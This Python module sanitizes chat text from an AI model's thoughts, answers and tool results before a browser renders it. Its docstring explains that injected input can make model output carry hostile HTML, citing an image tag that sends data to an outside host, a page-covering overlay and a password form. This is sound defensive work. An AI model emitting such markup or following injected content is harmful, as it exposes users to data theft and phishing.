"""Chat text the browser may render: Markdown, but no raw HTML and no remote images from anyone's text.

Why: a model's thought, a final answer or a tool's result is written by whoever controls the model's
input (a web page it read, an uploaded file). Rendered as HTML, `<img src=http://host/?d=...>` is
fetched without a click, a `position:fixed` block covers the page and a `<form>` asks for a password.
Every `<` outside code becomes `&lt;` (the app's own error marker is the one tag kept), and Markdown
images become links the person may choose to open. Code blocks and inline code are left exactly as
written: Markdown shows them literally anyway. The page's Content-Security-Policy
(`ui/security_headers.py`) is the second line: images, media and form targets only from the app.
"""
from __future__ import annotations

import re

# The only markup the app itself puts into chat text.
_APP_TAGS = ('<span class="ad-error">', "</span>")
_FENCE = re.compile(r"^(?P<fence>`{3,}|~{3,})", re.MULTILINE)
_INLINE_CODE = re.compile(r"(`+)(.+?)\1", re.DOTALL)
_IMAGE = re.compile(r"!\[")


def neutralize(text: str) -> str:
    """`text` with raw HTML shown as text and images turned into links; code left untouched."""
    if "<" not in text and "![" not in text:
        return text
    out: list[str] = []
    pos = 0
    while pos < len(text):
        start = _FENCE.search(text, pos)
        if start is None:
            out.append(_neutralize_prose(text[pos:]))
            break
        out.append(_neutralize_prose(text[pos:start.start()]))
        fence = start.group("fence")
        close = re.compile(rf"^{re.escape(fence[0])}{{{len(fence)},}}[ \t]*$", re.MULTILINE)
        line_end = text.find("\n", start.end())
        end = close.search(text, line_end + 1) if line_end != -1 else None
        stop = end.end() if end is not None else len(text)  # an unclosed fence runs to the end
        out.append(text[start.start():stop])
        pos = stop
    return "".join(out)


def _neutralize_prose(prose: str) -> str:
    pieces: list[str] = []
    pos = 0
    for match in _INLINE_CODE.finditer(prose):
        pieces.append(_escape(prose[pos:match.start()]))
        pieces.append(match.group(0))
        pos = match.end()
    pieces.append(_escape(prose[pos:]))
    return "".join(pieces)


def _escape(segment: str) -> str:
    if "<" in segment:
        kept = segment
        for index, tag in enumerate(_APP_TAGS):
            kept = kept.replace(tag, f"\x00{index}\x00")
        kept = kept.replace("<", "&lt;")
        for index, tag in enumerate(_APP_TAGS):
            kept = kept.replace(f"\x00{index}\x00", tag)
        segment = kept
    return _IMAGE.sub("🖼 [", segment)
